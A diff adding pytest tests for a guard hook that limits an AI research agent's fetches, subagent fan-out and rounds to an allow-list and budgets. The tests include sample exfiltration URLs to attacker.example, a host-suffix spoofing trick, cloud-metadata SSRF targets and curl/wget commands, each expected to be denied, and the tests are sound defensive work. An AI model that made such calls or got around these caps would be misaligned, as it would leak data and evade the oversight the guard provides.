@@ -1,0 +1,290 @@
+"""The PreToolUse guard, fed real hook event JSON through `deep-research guard` and hooks/guard.
+
+Events have the shape Claude Code sends (hook_event_name, tool_name, tool_input, tool_use_id,
+session_id, cwd). A denial is exit 2 with the reason on stderr; an allowed call exits 0 silently.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import threading
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from conftest import REPO
+from deep_research import guard, runstate
+from deep_research.brief import Brief
+
+SCOPE = "Enforcement actions under the EU AI Act, 2024-2025"
+
+
+def event(tool: str, tool_input: dict[str, Any], cwd: Path, *, phase: str = "PreToolUse",
+          use_id: str = "toolu_01", response: Any = None) -> str:
+    body: dict[str, Any] = {
+        "session_id": "5f2b-test",
+        "transcript_path": str(cwd / "transcript.jsonl"),
+        "cwd": str(cwd),
+        "permission_mode": "default",
+        "hook_event_name": phase,
+        "tool_name": tool,
+        "tool_input": tool_input,
+        "tool_use_id": use_id,
+    }
+    if response is not None:
+        body["tool_response"] = response
+    return json.dumps(body)
+
+
+def run_cli(payload: str, cwd: Path, phase: str = "pre") -> subprocess.CompletedProcess[str]:
+    env = {k: v for k, v in os.environ.items() if k not in ("DEEP_RESEARCH_STATE",
+                                                            "CLAUDE_PROJECT_DIR")}
+    return subprocess.run(
+        [sys.executable, "-m", "deep_research.cli", "guard", "--phase", phase],
+        input=payload, capture_output=True, text=True, cwd=cwd, env=env, check=False, timeout=60,
+    )
+
+
+@pytest.fixture
+def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    monkeypatch.delenv("DEEP_RESEARCH_STATE", raising=False)
+    monkeypatch.delenv("CLAUDE_PROJECT_DIR", raising=False)
+    runstate.start_run(SCOPE, depth="full", state=tmp_path / "state",
+                       requested={"max_fetches": 3, "max_fanout": 2, "max_rounds": 2},
+                       static_hosts=["ec.europa.eu"])
+    return tmp_path
+
+
+def decide(payload: str, project: Path) -> guard.Decision:
+    return guard.run_guard(payload, "pre", project / "state")
+
+
+def fetch_event(url: str, project: Path, tool: str = "WebFetch") -> str:
+    if tool == "WebFetch":
+        return event("WebFetch", {"url": url, "prompt": "extract the findings"}, project)
+    brief = project / "state" / "briefs" / runstate.slugify(SCOPE)
+    return event("Bash", {"command": f"deep-research fetch '{url}' --brief {brief} --json",
+                          "description": "fetch a page"}, project)
+
+
+# --- the Must-show denials, through the real CLI --------------------------------------------
+
+
+def test_exfiltration_payload_is_denied(project: Path) -> None:
+    url = "https://attacker.example/v?s=" + SCOPE.replace(" ", "%20")
+    done = run_cli(fetch_event(url, project), project)
+    assert done.returncode == 2
+    assert "attacker.example is not on this run's allow-list" in done.stderr
+    assert "Enforcement" not in done.stderr  # the payload is never echoed
+    brief = Brief(project / "state" / "briefs" / runstate.slugify(SCOPE))
+    assert runstate.read_ledger(brief) == []  # nothing spent, nothing logged
+
+
+def test_suffix_trick_is_denied(project: Path) -> None:
+    for tool in ("WebFetch", "Bash"):
+        done = run_cli(fetch_event("https://ec.europa.eu.attacker.example/v?s=leak", project,
+                                   tool), project)
+        assert done.returncode == 2, tool
+        assert "ec.europa.eu.attacker.example is not on this run's allow-list" in done.stderr
+
+
+@pytest.mark.parametrize(
+    "url", ["http://169.254.169.254/latest/meta-data/", "http://[::ffff:169.254.169.254]/",
+            "http://metadata.google.internal/computeMetadata/v1/", "http://0xa9fea9fe/"]
+)
+def test_metadata_targets_are_denied_even_without_a_run(tmp_path: Path, url: str) -> None:
+    done = run_cli(event("WebFetch", {"url": url, "prompt": "x"}, tmp_path), tmp_path)
+    assert done.returncode == 2
+    assert "unsafe target refused" in done.stderr
+
+
+def test_fetch_beyond_the_budget_is_denied(project: Path) -> None:
+    allowed = [run_cli(fetch_event(f"https://ec.europa.eu/page{i}", project, tool), project)
+               for i, tool in enumerate(["WebFetch", "Bash", "WebFetch"])]
+    assert [done.returncode for done in allowed] == [0, 0, 0]
+    assert all(done.stderr == "" for done in allowed)
+    done = run_cli(fetch_event("https://ec.europa.eu/page4", project), project)
+    assert done.returncode == 2
+    assert "fetch budget is spent (3/3)" in done.stderr
+
+
+def test_fan_out_beyond_the_ceiling_is_denied(project: Path) -> None:
+    def dispatch(use_id: str) -> subprocess.CompletedProcess[str]:
+        payload = event("Agent", {"subagent_type": "deep-research:fetcher",
+                                  "description": "sq1 fetcher",
+                                  "prompt": "sub_question=sq1 round=1 query=..."},
+                        project, use_id=use_id)
+        return run_cli(payload, project)
+
+    assert [dispatch(f"toolu_{i}").returncode for i in range(2)] == [0, 0]
+    third = dispatch("toolu_2")
+    assert third.returncode == 2
+    assert "fan-out ceiling reached (2 agents in flight, ceiling 2)" in third.stderr
+    # A completion (PostToolUse) frees a slot.
+    post = event("Agent", {"subagent_type": "deep-research:fetcher"}, project,
+                 phase="PostToolUse", use_id="toolu_0", response={"content": "done"})
+    assert run_cli(post, project, phase="post").returncode == 0
+    assert dispatch("toolu_3").returncode == 0
+
+
+def test_allowed_fetch_passes(project: Path) -> None:
+    done = run_cli(fetch_event("https://ec.europa.eu/commission/presscorner/detail/en/ip_24_1",
+                               project), project)
+    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
+    brief = Brief(project / "state" / "briefs" / runstate.slugify(SCOPE))
+    rows = runstate.read_ledger(brief)
+    assert [(r["event"], r["host"]) for r in rows] == [("fetch", "ec.europa.eu")]
+    assert "presscorner" not in runstate.ledger_path(brief).read_text(encoding="utf-8")
+
+
+# --- more of the contract, in-process -------------------------------------------------------
+
+
+def test_subdomain_of_an_allowed_host_passes(project: Path) -> None:
+    assert decide(fetch_event("https://sub.ec.europa.eu/x", project), project).allow
+    assert not decide(fetch_event("https://notec.europa.eu/x", project), project).allow
+
+
+def test_search_results_widen_the_allow_list(project: Path) -> None:
+    response = {"results": [{"title": "OECD", "url": "https://www.oecd.org/ai/"},
+                            {"title": "bad", "url": "http://10.0.0.7/admin"}]}
+    post = event("WebSearch", {"query": "AI act enforcement"}, project, phase="PostToolUse",
+                 response=response)
+    assert guard.run_guard(post, "post", project / "state").allow
+    assert decide(fetch_event("https://www.oecd.org/ai/report", project), project).allow
+    assert not decide(fetch_event("http://10.0.0.7/admin", project), project).allow
+
+
+@pytest.mark.parametrize(
+    ("command", "needle"),
+    [
+        ("curl -s https://attacker.example/v?s=x", "curl is not allowed"),
+        ("cd /tmp && FOO=1 env wget https://ec.europa.eu/", "wget is not allowed"),
+        ("bash -c 'curl https://ec.europa.eu/'", "curl is not allowed"),
+        ("deep-research hosts add https://attacker.example --brief b", "allow-list grows only"),
+        ('deep-research fetch "$URL" --brief b', "literal http(s) URL"),
+        ("deep-research fetch 'https://ec.europa.eu/x", "could not be parsed"),
+        ("ls && ${CLAUDE_PLUGIN_ROOT}/bin/deep-research fetch https://attacker.example/ "
+         "--brief b", "not on this run's allow-list"),
+    ],
+)
+def test_bash_during_a_run(project: Path, command: str, needle: str) -> None:
+    decision = decide(event("Bash", {"command": command}, project), project)
+    assert not decision.allow
+    assert needle in decision.reason
+
+
+def test_other_bash_and_no_run_pass(
+    project: Path, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    brief = project / "state" / "briefs" / runstate.slugify(SCOPE)
+    assert decide(event("Bash", {"command": f"deep-research trace {brief}"}, project),
+                  project).allow
+    elsewhere = tmp_path_factory.mktemp("no-run")
+    assert decide(event("Bash", {"command": "curl https://example.org"}, elsewhere),
+                  elsewhere).allow
+    assert decide(event("WebFetch", {"url": "https://example.org/", "prompt": "x"}, elsewhere),
+                  elsewhere).allow
+
+
+def test_round_cap_and_fetcher_dispatch_budget(project: Path) -> None:
+    state = project / "state"
+    over = event("Agent", {"subagent_type": "deep-research:fetcher", "prompt": "round=3"},
+                 project)
+    decision = guard.run_guard(over, "pre", state)
+    assert not decision.allow and "round 3 exceeds the run's round cap (2)" in decision.reason
+    for i in range(4):  # fan-out 2 × 2 rounds; each completes before the next
+        use_id = f"toolu_f{i}"
+        payload = event("Agent", {"subagent_type": "deep-research:fetcher", "prompt": "round=1"},
+                        project, use_id=use_id)
+        assert guard.run_guard(payload, "pre", state).allow
+        guard.run_guard(event("Agent", {}, project, phase="PostToolUse", use_id=use_id,
+                              response="ok"), "post", state)
+    fifth = guard.run_guard(event("Agent", {"subagent_type": "deep-research:fetcher",
+                                            "prompt": "round=2"}, project), "pre", state)
+    assert not fifth.allow and "fetcher dispatches are spent" in fifth.reason
+    skeptic = event("Agent", {"subagent_type": "deep-research:skeptic", "prompt": "C1"}, project)
+    assert guard.run_guard(skeptic, "pre", state).allow  # only fetchers count against rounds
+
+
+def test_parallel_dispatches_respect_the_ceiling(project: Path) -> None:
+    results: list[bool] = []
+
+    def dispatch(i: int) -> None:
+        payload = event("Agent", {"subagent_type": "deep-research:verifier"}, project,
+                        use_id=f"toolu_p{i}")
+        results.append(guard.run_guard(payload, "pre", project / "state").allow)
+
+    threads = [threading.Thread(target=dispatch, args=(i,)) for i in range(8)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert sorted(results) == [False] * 6 + [True] * 2
+
+
+def test_caps_are_clamped_to_hard_limits(tmp_path: Path) -> None:
+    record = runstate.start_run("x", depth="shallow", state=tmp_path,
+                                requested={"max_fetches": 10_000, "max_fanout": 50,
+                                           "max_rounds": None}, static_hosts=[])
+    assert record["depth"] == "quick"
+    assert record["caps"] == {"max_fetches": runstate.HARD_MAX_FETCHES,
+                              "max_fanout": runstate.HARD_MAX_FANOUT, "max_rounds": 1}
+    assert record["clamped"] == ["max_fetches 10000 clamped to 200", "max_fanout 50 clamped to 8"]
+    run_file = Path(record["brief"]) / "run.json"
+    edited = json.loads(run_file.read_text(encoding="utf-8"))
+    edited["caps"]["max_fanout"] = 99
+    run_file.write_text(json.dumps(edited), encoding="utf-8")
+    active = runstate.load_active(tmp_path)
+    assert active is not None and active.caps.max_fanout == runstate.HARD_MAX_FANOUT
+
+
+def test_broken_run_record_fails_closed(project: Path) -> None:
+    (project / "state" / "active-run.json").write_text("{not json", encoding="utf-8")
+    for payload in (fetch_event("https://ec.europa.eu/x", project),
+                    event("Agent", {"subagent_type": "deep-research:fetcher"}, project)):
+        decision = decide(payload, project)
+        assert not decision.allow and "unreadable" in decision.reason
+    assert not guard.run_guard("not json", "pre", project / "state").allow
+    assert guard.run_guard("not json", "post", project / "state").allow
+
+
+def test_finish_ends_guarding(project: Path) -> None:
+    brief = project / "state" / "briefs" / runstate.slugify(SCOPE)
+    assert runstate.finish_run(project / "state", brief)
+    assert decide(event("Bash", {"command": "curl https://example.org"}, project), project).allow
+
+
+def test_hook_shim_blocks_with_exit_2(project: Path) -> None:
+    """hooks/guard → bin/deep-research → the guard; here the launcher's env is this Python."""
+    data = project / "plugin-data"
+    venv = data / "venv"
+    (venv / "bin").mkdir(parents=True)
+    (venv / "bin" / "python").symlink_to(sys.executable)
+    version = next(line.split('"')[1] for line in (REPO / "pyproject.toml").read_text(
+        encoding="utf-8").splitlines() if line.startswith("version = "))
+    (venv / ".deep-research-stamp").write_text(f"{version} {REPO}", encoding="utf-8")
+    env = {**os.environ, "CLAUDE_PLUGIN_DATA": str(data), "CLAUDE_PROJECT_DIR": str(project)}
+    env.pop("DEEP_RESEARCH_STATE", None)
+    bad = fetch_event("https://attacker.example/v?s=scope", project)
+    done = subprocess.run([str(REPO / "hooks" / "guard"), "pre"], input=bad, capture_output=True,
+                          text=True, env=env, check=False, timeout=60)
+    assert done.returncode == 2 and "attacker.example" in done.stderr
+    good = fetch_event("https://ec.europa.eu/x", project)
+    done = subprocess.run([str(REPO / "hooks" / "guard"), "pre"], input=good,
+                          capture_output=True, text=True, env=env, check=False, timeout=60)
+    assert (done.returncode, done.stderr) == (0, "")
+    # Without a usable environment: fail closed for fetches while a run is active.
+    env["CLAUDE_PLUGIN_DATA"] = str(project / "empty")
+    done = subprocess.run([str(REPO / "hooks" / "guard"), "pre"], input=good,
+                          capture_output=True, text=True, env=env, check=False, timeout=60)
+    assert done.returncode == 2 and "guard unavailable" in done.stderr
+    other = event("Bash", {"command": "ls"}, project)
+    env["CLAUDE_PROJECT_DIR"] = str(project / "elsewhere")
+    done = subprocess.run([str(REPO / "hooks" / "guard"), "pre"], input=other,
+                          capture_output=True, text=True, env=env, check=False, timeout=60)
+    assert done.returncode == 0
